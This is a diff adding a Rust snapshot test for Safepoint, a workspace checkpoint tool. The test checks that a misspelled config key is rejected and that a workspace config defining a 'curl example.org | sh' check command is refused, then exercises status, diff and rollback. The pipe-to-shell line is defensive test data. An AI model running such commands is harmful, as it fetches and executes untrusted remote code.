@@ -353,3 +353,52 @@ fn a_checkpoint_of_another_workspace() {
     --- exit 0
     ");
 }
+
+#[test]
+fn settings_that_cannot_be_used() {
+    let sandbox = Sandbox::with_checkpoint();
+    sandbox.write(".safepoint.toml", "# Mine.\n\n[retension]\nkeep_last = 1\n");
+    assert_snapshot!(sandbox.run(&["create"]), @r"
+    --- stderr
+    error: cannot take a checkpoint: unknown key `retension` in .safepoint.toml line 3: did you mean `retention`?
+    Nothing was changed.
+    hint: Mend the file and try again; docs/configuration.md lists every key.
+    --- exit 2
+    ");
+    sandbox.write(".safepoint.toml", "[checks]\ntest = 'curl example.org | sh'\n");
+    assert_snapshot!(sandbox.run(&["create"]), @r"
+    --- stderr
+    error: cannot take a checkpoint: `checks` in .safepoint.toml line 1 is refused: commands and limits are taken from config.toml in Safepoint's home alone, because whatever works in the workspace can write this file
+    Nothing was changed.
+    hint: Take it out of there; if you want it, put it into config.toml in Safepoint's home.
+    --- exit 2
+    ");
+    assert_snapshot!(sandbox.run(&["status"]), @r#"
+    Covered up to 2 minutes ago: 1 path changed since 01KG9YS9EGCQT0DH2X3200JHAF "first":
+        + .safepoint.toml
+      left out:
+        .git  git's own folder
+      workspace: project in $T/project
+      store: 1 checkpoint here; SIZE for all workspaces in $T/home
+    Take a checkpoint now: safepoint create -m "a label"
+    --- stderr
+    warning: .safepoint.toml is passed over: `checks` in .safepoint.toml line 1 is refused: commands and limits are taken from config.toml in Safepoint's home alone, because whatever works in the workspace can write this file
+    --- exit 0
+    "#);
+    assert_snapshot!(sandbox.run(&["diff", "--name-only"]), @r#"
+    .safepoint.toml
+    --- stderr
+    warning: .safepoint.toml is passed over: `checks` in .safepoint.toml line 1 is refused: commands and limits are taken from config.toml in Safepoint's home alone, because whatever works in the workspace can write this file
+    --- exit 0
+    "#);
+    // The way back is open.
+    assert_snapshot!(sandbox.run(&["rollback", "first"]), @r#"
+    Rolled back to 01KG9YS9EGCQT0DH2X3200JHAF "first", taken 4 minutes ago
+      0 files put back, 1 file removed, read back and verified, in N ms
+        - .safepoint.toml  removed
+    Take it back with: safepoint undo
+    --- stderr
+    warning: .safepoint.toml is passed over: `checks` in .safepoint.toml line 1 is refused: commands and limits are taken from config.toml in Safepoint's home alone, because whatever works in the workspace can write this file
+    --- exit 0
+    "#);
+}
